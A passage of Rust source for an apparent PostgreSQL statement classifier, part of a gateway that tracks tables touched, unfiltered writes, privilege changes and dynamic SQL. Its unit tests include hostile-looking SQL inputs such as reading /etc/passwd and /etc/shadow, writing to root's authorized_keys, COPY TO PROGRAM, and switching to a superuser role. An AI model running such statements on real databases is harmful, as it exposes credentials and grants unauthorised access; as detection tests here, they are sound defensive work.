            Desc::new(SESSION, command)
        }
        NodeEnum::ListenStmt(_) => Desc::new(SESSION, "LISTEN"),
        NodeEnum::UnlistenStmt(_) => Desc::new(SESSION, "UNLISTEN"),
        NodeEnum::NotifyStmt(_) => Desc::new(SESSION, "NOTIFY"),
        NodeEnum::DeallocateStmt(s) => Desc::new(
            SESSION,
            if s.isall {
                "DEALLOCATE ALL"
            } else {
                "DEALLOCATE"
            },
        ),
        NodeEnum::FetchStmt(s) => Desc::new(SESSION, if s.ismove { "MOVE" } else { "FETCH" }),
        NodeEnum::ClosePortalStmt(s) => Desc::new(
            SESSION,
            if s.portalname.is_empty() {
                "CLOSE CURSOR ALL"
            } else {
                "CLOSE CURSOR"
            },
        ),
        NodeEnum::ConstraintsSetStmt(_) => Desc::new(SESSION, "SET CONSTRAINTS"),

        NodeEnum::TransactionStmt(s) => {
            use protobuf::TransactionStmtKind as K;
            let command = match K::try_from(s.kind) {
                Ok(K::TransStmtBegin) => "BEGIN",
                Ok(K::TransStmtStart) => "START TRANSACTION",
                Ok(K::TransStmtCommit) => "COMMIT",
                Ok(K::TransStmtRollback | K::TransStmtRollbackTo) => "ROLLBACK",
                Ok(K::TransStmtSavepoint) => "SAVEPOINT",
                Ok(K::TransStmtRelease) => "RELEASE",
                Ok(K::TransStmtPrepare) => "PREPARE TRANSACTION",
                Ok(K::TransStmtCommitPrepared) => "COMMIT PREPARED",
                Ok(K::TransStmtRollbackPrepared) => "ROLLBACK PREPARED",
                _ => return Desc::new(OPAQUE, "UNKNOWN"),
            };
            Desc::new(TX, command)
        }

        // Their effect lives in code or state the statement text does not show.
        NodeEnum::DoStmt(_) => Desc::new(OPAQUE, "DO"),
        NodeEnum::CallStmt(_) => Desc::new(OPAQUE, "CALL"),
        NodeEnum::ExecuteStmt(_) => Desc::new(OPAQUE, "EXECUTE"),
        NodeEnum::LoadStmt(_) => Desc::new(OPAQUE, "LOAD"),
        NodeEnum::AlterSystemStmt(_) => Desc::new(OPAQUE, "ALTER SYSTEM"),
        NodeEnum::CheckPointStmt(_) => Desc::new(OPAQUE, "CHECKPOINT"),
        // LOCK changes no data but can stall every other session on the table.
        NodeEnum::LockStmt(_) => Desc::new(OPAQUE, "LOCK TABLE").mode(Mode::Write),
        _ => Desc::new(OPAQUE, "UNKNOWN"),
    }
}

fn object_type(raw: i32) -> Option<protobuf::ObjectType> {
    protobuf::ObjectType::try_from(raw).ok()
}

fn prefixed(verb: &str, kind: Option<protobuf::ObjectType>) -> String {
    match kind.and_then(object_name) {
        Some(name) => format!("{verb} {name}"),
        None => verb.to_owned(),
    }
}

/// The object word of Postgres' command tags ("DROP <this>", "ALTER <this>").
fn object_name(kind: protobuf::ObjectType) -> Option<&'static str> {
    use protobuf::ObjectType as O;
    Some(match kind {
        O::ObjectAccessMethod => "ACCESS METHOD",
        O::ObjectAggregate => "AGGREGATE",
        O::ObjectCast => "CAST",
        O::ObjectColumn | O::ObjectTabconstraint | O::ObjectTable => "TABLE",
        O::ObjectCollation => "COLLATION",
        O::ObjectConversion => "CONVERSION",
        O::ObjectDatabase => "DATABASE",
        O::ObjectDomain | O::ObjectDomconstraint => "DOMAIN",
        O::ObjectEventTrigger => "EVENT TRIGGER",
        O::ObjectExtension => "EXTENSION",
        O::ObjectFdw => "FOREIGN DATA WRAPPER",
        O::ObjectForeignServer => "SERVER",
        O::ObjectForeignTable => "FOREIGN TABLE",
        O::ObjectFunction => "FUNCTION",
        O::ObjectIndex => "INDEX",
        O::ObjectLanguage => "LANGUAGE",
        O::ObjectLargeobject => "LARGE OBJECT",
        O::ObjectMatview => "MATERIALIZED VIEW",
        O::ObjectOpclass => "OPERATOR CLASS",
        O::ObjectOperator => "OPERATOR",
        O::ObjectOpfamily => "OPERATOR FAMILY",
        O::ObjectPolicy => "POLICY",
        O::ObjectProcedure => "PROCEDURE",
        O::ObjectPublication => "PUBLICATION",
        O::ObjectRole => "ROLE",
        O::ObjectRoutine => "ROUTINE",
        O::ObjectRule => "RULE",
        O::ObjectSchema => "SCHEMA",
        O::ObjectSequence => "SEQUENCE",
        O::ObjectSubscription => "SUBSCRIPTION",
        O::ObjectStatisticExt => "STATISTICS",
        O::ObjectTablespace => "TABLESPACE",
        O::ObjectTransform => "TRANSFORM",
        O::ObjectTrigger => "TRIGGER",
        O::ObjectTsconfiguration => "TEXT SEARCH CONFIGURATION",
        O::ObjectTsdictionary => "TEXT SEARCH DICTIONARY",
        O::ObjectTsparser => "TEXT SEARCH PARSER",
        O::ObjectTstemplate => "TEXT SEARCH TEMPLATE",
        O::ObjectType | O::ObjectAttribute => "TYPE",
        O::ObjectUserMapping => "USER MAPPING",
        O::ObjectView => "VIEW",
        _ => return None,
    })
}

/// The table a DROP/COMMENT object names: such objects are lists of name
/// strings, not RangeVars, so the generic walk does not see them.
fn dropped_table(kind: Option<protobuf::ObjectType>, object: &protobuf::Node) -> Option<String> {
    use protobuf::ObjectType as O;
    let Some(NodeEnum::List(list)) = object.node.as_ref() else {
        return None;
    };
    let names: Vec<&str> = list
        .items
        .iter()
        .filter_map(|item| match item.node.as_ref() {
            Some(NodeEnum::String(s)) => Some(s.sval.as_str()),
            _ => None,
        })
        .collect();
    let table: &[&str] = match kind? {
        O::ObjectTable
        | O::ObjectView
        | O::ObjectMatview
        | O::ObjectIndex
        | O::ObjectSequence
        | O::ObjectForeignTable => &names,
        // `<name> ON <table>`: the table comes first, the object's own name last.
        O::ObjectTrigger
        | O::ObjectRule
        | O::ObjectPolicy
        | O::ObjectColumn
        | O::ObjectTabconstraint => names.split_last().map(|(_, table)| table)?,
        _ => return None,
    };
    (!table.is_empty()).then(|| table.join("."))
}

/// What the walk over one statement's tree found.
#[derive(Default)]
struct Found {
    read: BTreeSet<String>,
    written: BTreeSet<String>,
    functions: BTreeSet<String>,
    insert: bool,
    update: bool,
    delete: bool,
    /// UPDATE/DELETE/MERGE nodes seen.
    modifications: usize,
    /// Whether any of them lacks a WHERE clause.
    unfiltered: bool,
    select_into: bool,
    /// Constant SQL text given to a built-in that runs it.
    nested_sql: Vec<String>,
    /// SQL text that is not a constant, or runs elsewhere.
    dynamic_sql: bool,
    /// `set_config('role' | 'session_authorization', …)`, or a
    /// `set_config` whose setting name is not a constant.
    privilege: bool,
    operators: BTreeSet<String>,
    cast_types: BTreeSet<String>,
    attributes: BTreeSet<String>,
}

fn walk(value: &Value, mode: Mode, scope: &[String], found: &mut Found) {
    match value {
        Value::Array(items) => {
            for item in items {
                walk(item, mode, scope, found);
            }
        }
        Value::Object(map) => walk_object(map, mode, scope, found),
        _ => {}
    }
}

fn walk_object(map: &Map<String, Value>, mode: Mode, scope: &[String], found: &mut Found) {
    // A `Node` serialises as {"node": {"<NodeType>": {..fields..}}}: the one
    // key of the inner object, capitalised unlike any field name, is the type.
    if map.len() == 1 {
        if let Some((name, Value::Object(fields))) = map.iter().next() {
            if name.starts_with(|c: char| c.is_ascii_uppercase()) {
                return walk_node(name, fields, mode, scope, found);
            }
        }
    }
    // Fields typed as a message rather than as `Node` carry no type name, so
    // the few types that matter there are recognised by their field names.
    if map.contains_key("relname") && map.contains_key("relpersistence") {
        range_var(map, mode, scope, found);
    } else if map.contains_key("funcname") && map.contains_key("agg_within_group") {
        func_call(map, mode, scope, found);
    } else if map.contains_key("rel") && map.contains_key("skip_data") {
        into_clause(map, mode, scope, found);
    } else {
        walk_fields(map, scope, found, |_| mode);
    }
}

fn walk_node(
    name: &str,
    fields: &Map<String, Value>,
    mode: Mode,
    scope: &[String],
    found: &mut Found,
) {
    let target_written = |key: &str| {
        if key == "relation" {
            Mode::Write
        } else {
            Mode::Read
        }
    };
    match name {
        "RangeVar" => range_var(fields, mode, scope, found),
        "FuncCall" => func_call(fields, mode, scope, found),
        "IntoClause" => into_clause(fields, mode, scope, found),
        "SelectStmt" => walk_fields(fields, scope, found, |_| Mode::Read),
        "InsertStmt" => {
            found.insert = true;
            // ON CONFLICT DO UPDATE updates existing rows; the conflict
            // target is its filter.
            let upsert = fields
                .get("on_conflict_clause")
                .and_then(|c| c.get("action"))
                .and_then(Value::as_i64)
                == Some(protobuf::OnConflictAction::OnconflictUpdate as i64);
            if upsert {
                found.update = true;
                found.modifications += 1;
            }
            walk_fields(fields, scope, found, target_written);
        }
        "TypeCast" => {
            let ty = fields
                .get("type_name")
                .and_then(|t| t.get("names"))
                .and_then(Value::as_array)
                .and_then(|parts| parts.last())
                .and_then(|last| last.get("node")?.get("String")?.get("sval")?.as_str());
            if let Some(ty) = ty {
                found.cast_types.insert(ty.to_string());
            }
            walk_fields(fields, scope, found, |_| mode);
        }
        "ColumnRef" => {
            let parts = fields
                .get("fields")
                .and_then(Value::as_array)
                .map_or(&[][..], Vec::as_slice);
            if parts.len() >= 2 {
                let last = parts
                    .last()
                    .and_then(|l| l.get("node")?.get("String")?.get("sval")?.as_str());
                if let Some(name) = last {
                    found.attributes.insert(name.to_string());
                }
            }
            walk_fields(fields, scope, found, |_| mode);
        }
        "AExpr" => {
            let op = fields
                .get("name")
                .and_then(Value::as_array)
                .and_then(|parts| parts.last())
                .and_then(|last| last.get("node")?.get("String")?.get("sval")?.as_str());
            if let Some(op) = op {
                found.operators.insert(op.to_string());
            }
            walk_fields(fields, scope, found, |_| mode);
        }
        "UpdateStmt" => {
            found.update = true;
            modification(fields, found);
            walk_fields(fields, scope, found, target_written);
        }
        "DeleteStmt" => {
            found.delete = true;
            modification(fields, found);
            walk_fields(fields, scope, found, target_written);
        }
        "MergeStmt" => {
            // A join condition is no WHERE: MERGE may touch every row.
            found.update = true;
            found.modifications += 1;
            found.unfiltered = true;
            if merge_deletes(fields) {
                found.delete = true;
            }
            walk_fields(fields, scope, found, target_written);
        }
        "CopyStmt" => {
            let from = fields.get("is_from") == Some(&Value::Bool(true));
            walk_fields(fields, scope, found, |key| {
                if from && key == "relation" {
                    Mode::Write
                } else {
                    Mode::Read
                }
            });
        }
        _ => walk_fields(fields, scope, found, |_| mode),
    }
}

fn modification(fields: &Map<String, Value>, found: &mut Found) {
    found.modifications += 1;
    // WHERE CURRENT OF is a CurrentOfExpr here, so it counts as a WHERE.
    if matches!(fields.get("where_clause"), None | Some(Value::Null)) {
        found.unfiltered = true;
    }
}

fn merge_deletes(fields: &Map<String, Value>) -> bool {
    let delete = protobuf::CmdType::CmdDelete as i64;
    fields
        .get("merge_when_clauses")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(|clause| clause.get("node")?.get("MergeWhenClause"))
        .any(|clause| clause.get("command_type").and_then(Value::as_i64) == Some(delete))
}

/// Walks every field; a `with_clause` first, because its CTE names hide
/// tables of the same name in the rest of the node.
fn walk_fields(
    fields: &Map<String, Value>,
    scope: &[String],
    found: &mut Found,
    mode_of: impl Fn(&str) -> Mode,
) {
    let inner;
    let scope = match fields.get("with_clause") {
        Some(Value::Object(with)) => {
            inner = with_clause(with, scope, found);
            inner.as_slice()
        }
        _ => scope,
    };
    for (key, value) in fields {
        if key != "with_clause" {
            walk(value, mode_of(key), scope, found);
        }
    }
}

/// Walks the CTEs and returns the scope for the statement they belong to.
fn with_clause(with: &Map<String, Value>, outer: &[String], found: &mut Found) -> Vec<String> {
    let recursive = with.get("recursive") == Some(&Value::Bool(true));
    let ctes: Vec<&Value> = with
        .get("ctes")
        .and_then(Value::as_array)
        .map(|a| a.iter().collect())
        .unwrap_or_default();
    let names: Vec<Option<String>> = ctes
        .iter()
        .map(|cte| {
            cte.get("node")?
                .get("CommonTableExpr")?
                .get("ctename")?
                .as_str()
                .map(str::to_owned)
        })
        .collect();
    let mut all = outer.to_vec();
    all.extend(names.iter().flatten().cloned());
    for (i, cte) in ctes.iter().enumerate() {
        // Without RECURSIVE a CTE sees only the CTEs before it: in
        // `WITH f AS (SELECT * FROM f)` the inner f is a real table.
        let visible = if recursive {
            all.clone()
        } else {
            let mut visible = outer.to_vec();
            visible.extend(names.iter().take(i).flatten().cloned());
            visible
        };
        walk(cte, Mode::Read, &visible, found);
    }
    all
}

fn range_var(fields: &Map<String, Value>, mode: Mode, scope: &[String], found: &mut Found) {
    let part = |key: &str| fields.get(key).and_then(Value::as_str).unwrap_or("");
    let (catalog, schema, relname) = (part("catalogname"), part("schemaname"), part("relname"));
    if relname.is_empty() {
        return;
    }
    let name = [catalog, schema, relname]
        .iter()
        .filter(|p| !p.is_empty())
        .copied()
        .collect::<Vec<_>>()
        .join(".");
    match mode {
        // Targets of INSERT/UPDATE/DELETE/DDL are always real tables, never CTEs.
        Mode::Write => {
            found.written.insert(name);
        }
        Mode::Read => {
            let cte = catalog.is_empty() && schema.is_empty() && scope.iter().any(|s| s == relname);
            if !cte {
                found.read.insert(name);
            }
        }
    }
}

fn func_call(fields: &Map<String, Value>, mode: Mode, scope: &[String], found: &mut Found) {
    let name = fields
        .get("funcname")
        .and_then(Value::as_array)
        .and_then(|parts| parts.last())
        .and_then(|last| last.get("node")?.get("String")?.get("sval")?.as_str());
    if let Some(name) = name {
        let name = name.to_lowercase();
        special_call(&name, fields, found);
        found.functions.insert(name);
    }
    // Arguments can hold subqueries and further calls.
    walk_fields(fields, scope, found, |_| mode);
}

/// The string constant a call argument is, if it is one (a cast of a
/// constant, `'…'::text`, counts).
fn constant_arg(arg: &Value) -> Option<&str> {
    let node = arg.get("node")?;
    if let Some(cast) = node.get("TypeCast") {
        return constant_arg(cast.get("arg")?);
    }
    node.get("AConst")?
        .get("val")?
        .get("Sval")?
        .get("sval")?
        .as_str()
}

/// SQL text given to a built-in: classified when constant. The server
/// lexes it when it runs, under the settings of that moment, which the
/// same statement can change (`set_config('standard_conforming_strings',
/// …)`): text whose reading depends on them is dynamic as well.
fn nested_text(arg: Option<&Value>, found: &mut Found) {
    match arg.and_then(constant_arg) {
        Some(sql) => found.nested_sql.push(sql.to_string()),
        None => found.dynamic_sql = true,
    }
}

/// Calls whose arguments change what the statement does.
fn special_call(name: &str, fields: &Map<String, Value>, found: &mut Found) {
    let args: &[Value] = fields
        .get("args")
        .and_then(Value::as_array)
        .map_or(&[], Vec::as_slice);
    if name == "set_config" {
        // A privilege change when it sets the role; a setting name that is
        // not a constant could be the role.
        let privileged = match args.first().and_then(constant_arg) {
            Some(setting) => ["role", "session_authorization"]
                .iter()
                .any(|p| setting.trim().eq_ignore_ascii_case(p)),
            None => true,
        };
        found.privilege |= privileged;
    } else if name.starts_with("dblink") {
        // Runs SQL on another connection, where no gateway sees it.
        found.dynamic_sql = true;
    } else if let Some((_, at)) = SQL_RUNNING.iter().find(|(n, _)| *n == name) {
        nested_text(args.get(*at), found);
    } else if name == "ts_rewrite" && args.len() == 2 {
        // ts_rewrite(query, 'SELECT target, substitute FROM …').
        nested_text(args.get(1), found);
    } else if TABLE_READING.contains(&name) {
        match args.first().and_then(constant_arg) {
            Some(table) if name.starts_with("table_") => {
                found.read.insert(regclass_name(table));
            }
            _ => found.dynamic_sql = true,
        }
    }
}

fn into_clause(fields: &Map<String, Value>, mode: Mode, scope: &[String], found: &mut Found) {
    found.select_into = true;
    walk_fields(fields, scope, found, |key| {
        if key == "rel" {
            Mode::Write
        } else {
            mode
        }
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(sql: &str) -> Statement {
        let mut all = classify(sql);
        assert_eq!(all.len(), 1, "expected one statement for {sql:?}: {all:#?}");
        all.remove(0)
    }

    fn v(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn statements_differing_in_literals_share_a_shape_and_keep_their_text() {
        let c = Classifier::new(16);
        let a = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1;");
        let b = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 2;");
        assert_eq!(c.lock().shapes.len(), 1);
        assert_eq!(
            b[0].text,
            "SELECT abalance FROM pgbench_accounts WHERE aid = 2"
        );
        assert_eq!(a[0].tables_read, b[0].tables_read);
        // The fast path gives exactly what a full classification gives.
        for q in [
            "SELECT abalance FROM pgbench_accounts WHERE aid = 3;",
            "  UPDATE t SET x = 'a;b' WHERE id = 4  ",
            "DELETE FROM t WHERE id = 5",
            "SELECT pg_read_file('/etc/passwd')",
            "COPY t TO PROGRAM 'cat'",
        ] {
            assert_eq!(*c.classify(q), classify(q), "{q}");
            assert_eq!(*c.classify(q), classify(q), "{q} (cached)");
        }
    }

    /// Statements that share a shape key, where the literal is a name or
    /// SQL text: the second must read as it does without a cache.
    #[test]
    fn a_shared_shape_never_hands_over_a_reading() {
        for (warm, probe) in [
            ("SELECT nextval('a_seq')", "SELECT nextval('secret_seq')"),
            ("SELECT setval('a', 1)", "SELECT setval('b', 1)"),
            ("SELECT 'a'::regclass", "SELECT 'pg_authid'::regclass"),
            (
                "SELECT * FROM dblink('c', 'SELECT 1') AS t(x int)",
                "SELECT * FROM dblink('c', 'DELETE FROM t') AS t(x int)",
            ),
            (
                "SELECT pg_read_file('a')",
                "SELECT pg_read_file('/etc/shadow')",
            ),
            (
                "SELECT lo_export(1, '/tmp/a')",
                "SELECT lo_export(2, '/root/.ssh/authorized_keys')",
            ),
            (
                "SELECT set_config('a.b', 'x', false)",
                "SELECT set_config('role', 'postgres', false)",
            ),
            (
                "SELECT query_to_xml('SELECT 1', true, true, '')",
                "SELECT query_to_xml('DROP TABLE t', true, true, '')",
            ),
            (
                "SELECT table_to_xml('a', true, true, '')",
                "SELECT table_to_xml('secrets', true, true, '')",
            ),
            (
                "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')",
                "SELECT ts_rewrite('a'::tsquery, 'DELETE FROM t')",
            ),
            (
                "SELECT x FROM t WHERE y = 'a'",
                "SELECT x FROM t WHERE y = 'b'",
            ),
            ("INSERT INTO t VALUES (1)", "INSERT INTO t VALUES (2.5e3)"),
            (
                "SELECT pg_terminate_backend(1)",
                "SELECT pg_terminate_backend(2)",
            ),
            (
                "SELECT has_table_privilege('a', 'select')",
                "SELECT has_table_privilege('b', 'select')",
            ),
        ] {
            let c = Classifier::new(16);
            c.classify(warm);
            assert_eq!(*c.classify(probe), classify(probe), "{warm} then {probe}");
        }
    }

    #[test]
    fn plain_select() {
        let s = one("SELECT id, name FROM users WHERE id = 1");
        assert_eq!(s.action, ACTION_SELECT);
        assert_eq!(s.command, "SELECT");
        assert_eq!(s.tables_read, v(&["users"]));
        assert!(s.tables_written.is_empty());
        assert!(!s.has_where);
        assert_eq!(s.copy_direction, None);
    }

    #[test]
    fn select_joins_and_schema_qualified_tables() {
        let s = one(
            "SELECT * FROM public.orders o JOIN customers c ON c.id = o.cid \
             LEFT JOIN sales.items i USING (oid) WHERE o.id IN (SELECT oid FROM refunds)",
        );
        assert_eq!(
            s.tables_read,
            v(&["customers", "public.orders", "refunds", "sales.items"])
        );
    }

    #[test]
    fn values_table_and_for_update_are_selects() {
        assert_eq!(one("VALUES (1), (2)").action, ACTION_SELECT);
        let t = one("TABLE accounts");
        assert_eq!(
            (t.action, t.tables_read.clone()),
            (ACTION_SELECT, v(&["accounts"]))
        );
        let f = one("SELECT * FROM accounts WHERE id = 1 FOR UPDATE");
        assert_eq!(f.action, ACTION_SELECT);
        assert_eq!(f.tables_read, v(&["accounts"]));
    }

    #[test]
    fn cte_names_are_not_tables() {
        let s = one("WITH recent AS (SELECT * FROM orders WHERE ts > now()), \
             big AS (SELECT * FROM recent WHERE total > 100) SELECT * FROM big");
        assert_eq!(s.action, ACTION_SELECT);
        assert_eq!(s.tables_read, v(&["orders"]));
        assert_eq!(s.functions, v(&["now"]));
    }

    #[test]
    fn cte_scope_is_respected() {
        // Not recursive: the f inside the CTE is the real table f.
        let s = one("WITH f AS (SELECT * FROM f LIMIT 1) SELECT * FROM f");
        assert_eq!(s.tables_read, v(&["f"]));
        // A CTE inside a subquery does not hide the outer table of that name.
        let s = one("SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) a, secrets");
        assert_eq!(s.tables_read, v(&["secrets"]));
        // A schema-qualified name is never a CTE.
        let s = one("WITH t AS (SELECT 1) SELECT * FROM public.t, t");
        assert_eq!(s.tables_read, v(&["public.t"]));
        // RECURSIVE CTEs may refer to themselves.
        let s = one(
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        );
        assert!(s.tables_read.is_empty());
    }

    #[test]
    fn cte_with_delete_is_a_delete() {
        let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
        assert_eq!(s.action, ACTION_DELETE);
        assert_eq!(s.command, "SELECT");
        assert_eq!(s.tables_written, v(&["t"]));
        assert!(s.tables_read.is_empty());
        assert!(!s.has_where);
    }

    #[test]
    fn data_modifying_cte_precedence_and_where() {
        let s = one("WITH u AS (UPDATE a SET x = 1 WHERE id = 2 RETURNING *), \
             i AS (INSERT INTO b SELECT * FROM u RETURNING *) SELECT * FROM i");
        assert_eq!(s.action, ACTION_UPDATE);
        assert_eq!(s.tables_written, v(&["a", "b"]));
        assert!(s.has_where);

        let s = one("WITH u AS (UPDATE a SET x = 1 WHERE id = 2), d AS (DELETE FROM c) SELECT 1");
        assert_eq!(s.action, ACTION_DELETE);
        assert!(!s.has_where, "the DELETE has no WHERE");

        let s = one("WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT * FROM i");
        assert_eq!(s.action, ACTION_INSERT);
        assert_eq!(s.tables_written, v(&["log"]));
    }

    #[test]
    fn select_into_is_ddl() {
        let s = one("SELECT * INTO newtable FROM src WHERE a > 1");
        assert_eq!(s.action, ACTION_DDL);
        assert_eq!(s.command, "SELECT INTO");
        assert_eq!(s.tables_written, v(&["newtable"]));
        assert_eq!(s.tables_read, v(&["src"]));
    }

    #[test]
    fn create_table_as() {
        let s = one("CREATE TABLE archive.old AS SELECT * FROM orders");
        assert_eq!(
            (s.action, s.command.as_str()),
            (ACTION_DDL, "CREATE TABLE AS")
        );
        assert_eq!(s.tables_written, v(&["archive.old"]));
        assert_eq!(s.tables_read, v(&["orders"]));
    }

    #[test]
    fn insert_variants() {
        let s = one("INSERT INTO t (a) VALUES (gen_random_uuid())");
        assert_eq!((s.action, s.command.as_str()), (ACTION_INSERT, "INSERT"));
        assert_eq!(s.tables_written, v(&["t"]));
        assert!(s.tables_read.is_empty());
        assert_eq!(s.functions, v(&["gen_random_uuid"]));
        assert!(!s.has_where);

        let s = one("INSERT INTO archive.t SELECT * FROM t WHERE old");
        assert_eq!(s.tables_written, v(&["archive.t"]));
        assert_eq!(s.tables_read, v(&["t"]));

        let s =
            one("INSERT INTO t (id, n) VALUES (1, 1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1");
        // It may update every existing row: an update, measured as one.
        assert_eq!((s.action, s.command.as_str()), (ACTION_UPDATE, "INSERT"));
        assert_eq!(s.tables_written, v(&["t"]));
    }

    #[test]
    fn update_without_where() {
        let s = one("UPDATE accounts SET balance = 0");
        assert_eq!((s.action, s.command.as_str()), (ACTION_UPDATE, "UPDATE"));
        assert_eq!(s.tables_written, v(&["accounts"]));
        assert!(!s.has_where);
    }

    #[test]
    fn update_with_from_and_where() {
        let s = one("UPDATE a SET x = b.x FROM b WHERE a.id = b.id");
        assert!(s.has_where);
        assert_eq!(s.tables_written, v(&["a"]));
        assert_eq!(s.tables_read, v(&["b"]));
    }

    #[test]
    fn update_where_current_of_counts_as_where() {
        let s = one("UPDATE t SET x = 1 WHERE CURRENT OF c");
        assert_eq!(s.action, ACTION_UPDATE);
        assert!(s.has_where);
    }

    #[test]
    fn delete_with_and_without_where() {
        let s = one("DELETE FROM public.sessions WHERE expires < now()");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DELETE, "DELETE"));
        assert_eq!(s.tables_written, v(&["public.sessions"]));
        assert!(s.has_where);
        assert_eq!(s.functions, v(&["now"]));

        let s = one("DELETE FROM t USING u WHERE t.id = u.id");
        assert_eq!(s.tables_read, v(&["u"]));
        assert!(s.has_where);

        assert!(!one("DELETE FROM t").has_where);
    }

    #[test]
    fn merge_is_an_update_without_where() {
        let s = one("MERGE INTO stock s USING deliveries d ON s.id = d.id \
             WHEN MATCHED THEN UPDATE SET n = s.n + d.n WHEN NOT MATCHED THEN INSERT VALUES (d.id, d.n)");
        assert_eq!((s.action, s.command.as_str()), (ACTION_UPDATE, "MERGE"));
        assert_eq!(s.tables_written, v(&["stock"]));
        assert_eq!(s.tables_read, v(&["deliveries"]));
        assert!(!s.has_where);

        let s = one("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE");
        assert_eq!(s.action, ACTION_DELETE);
    }

    #[test]
    fn explain_analyze_delete_is_a_delete() {
        let s = one("EXPLAIN ANALYZE DELETE FROM orders");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DELETE, "DELETE"));
        assert_eq!(s.tables_written, v(&["orders"]));
        assert!(!s.has_where);

        let s = one("EXPLAIN SELECT * FROM t");
        assert_eq!((s.action, s.command.as_str()), (ACTION_SELECT, "SELECT"));
        assert_eq!(s.tables_read, v(&["t"]));
    }

    #[test]
    fn drop_database() {
        let s = one("DROP DATABASE production");
        assert_eq!(
            (s.action, s.command.as_str()),
            (ACTION_DDL, "DROP DATABASE")
        );
    }

    #[test]
    fn drop_objects_name_the_object() {
        let s = one("DROP TABLE IF EXISTS public.users, logs CASCADE");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DDL, "DROP TABLE"));
        assert_eq!(s.tables_written, v(&["logs", "public.users"]));
        assert_eq!(one("DROP SCHEMA app CASCADE").command, "DROP SCHEMA");
        assert_eq!(one("DROP VIEW v").command, "DROP VIEW");
        assert_eq!(one("DROP FUNCTION f(int)").command, "DROP FUNCTION");
        let s = one("DROP TRIGGER trg ON audit.events");
        assert_eq!(s.command, "DROP TRIGGER");
        assert_eq!(s.tables_written, v(&["audit.events"]));
    }

    #[test]
    fn truncate() {
        let s = one("TRUNCATE orders, public.items RESTART IDENTITY");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DDL, "TRUNCATE"));
        assert_eq!(s.tables_written, v(&["orders", "public.items"]));
    }

    #[test]
    fn other_ddl() {
        let s = one(
            "CREATE TABLE t (id int PRIMARY KEY, owner int REFERENCES users(id), ts timestamptz DEFAULT now())",
        );
        assert_eq!((s.action, s.command.as_str()), (ACTION_DDL, "CREATE TABLE"));
        assert_eq!(s.tables_written, v(&["t", "users"]));
        assert_eq!(s.functions, v(&["now"]));

        let s = one("ALTER TABLE public.t ADD COLUMN c text");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DDL, "ALTER TABLE"));
        assert_eq!(s.tables_written, v(&["public.t"]));

        let s = one("CREATE INDEX CONCURRENTLY ON t (lower(email))");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DDL, "CREATE INDEX"));
        assert_eq!(s.tables_written, v(&["t"]));

        let s = one("CREATE VIEW v AS SELECT * FROM t");
        assert_eq!(
            (s.command.as_str(), s.tables_written.clone()),
            ("CREATE VIEW", v(&["v"]))
        );
        assert_eq!(s.tables_read, v(&["t"]));

        for (sql, command) in [
            ("COMMENT ON TABLE t IS 'x'", "COMMENT"),
            ("REINDEX TABLE t", "REINDEX"),
            ("CLUSTER t USING t_pkey", "CLUSTER"),
            ("VACUUM FULL t", "VACUUM"),
            ("ANALYZE t", "ANALYZE"),
            ("REFRESH MATERIALIZED VIEW mv", "REFRESH MATERIALIZED VIEW"),
            (
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
                "CREATE FUNCTION",
            ),
            ("CREATE EXTENSION dblink", "CREATE EXTENSION"),
            ("ALTER TABLE t RENAME TO u", "ALTER TABLE"),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.action, s.command.as_str()),
                (ACTION_DDL, command),
                "{sql}"
            );
        }
        assert_eq!(one("COMMENT ON TABLE t IS 'x'").tables_written, v(&["t"]));
        assert_eq!(one("VACUUM FULL t").tables_written, v(&["t"]));
    }

    #[test]
    fn grant_revoke_and_roles_are_dcl() {
        let s = one("GRANT SELECT, UPDATE ON public.orders TO agent");
        assert_eq!((s.action, s.command.as_str()), (ACTION_DCL, "GRANT"));
        assert_eq!(s.tables_written, v(&["public.orders"]));
        assert_eq!(one("REVOKE ALL ON t FROM PUBLIC").command, "REVOKE");
        for (sql, command) in [
            ("CREATE ROLE r LOGIN", "CREATE ROLE"),
            ("CREATE USER u PASSWORD 'x'", "CREATE USER"),
            ("ALTER ROLE agent SUPERUSER", "ALTER ROLE"),
            ("DROP ROLE r", "DROP ROLE"),
            ("GRANT admin TO agent", "GRANT ROLE"),
            (
                "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r",
                "ALTER DEFAULT PRIVILEGES",
            ),
        ] {
            let s = one(sql);
            assert_eq!(
                (s.action, s.command.as_str()),
                (ACTION_DCL, command),
                "{sql}"
            );
        }
    }

    #[test]
    fn set_role_is_dcl_other_settings_are_session() {
        for sql in [
            "SET ROLE admin",
            "SET LOCAL ROLE admin",
            "SET SESSION AUTHORIZATION postgres",
            "SET \"ROLE\" = 'admin'",
            "RESET ROLE",
        ] {
            assert_eq!(one(sql).action, ACTION_DCL, "{sql}");
        }
        assert_eq!(one("RESET ROLE").command, "RESET");
        for (sql, command) in [
            ("SET search_path TO app, public", "SET"),
            ("SET statement_timeout = '5s'", "SET"),
            ("RESET ALL", "RESET"),
            ("SHOW work_mem", "SHOW"),
            ("DISCARD ALL", "DISCARD ALL"),
            ("LISTEN jobs", "LISTEN"),
            ("UNLISTEN *", "UNLISTEN"),
            ("NOTIFY jobs, 'x'", "NOTIFY"),
            ("DEALLOCATE p", "DEALLOCATE"),
            ("FETCH 10 FROM c", "FETCH"),
            ("MOVE 10 IN c", "MOVE"),
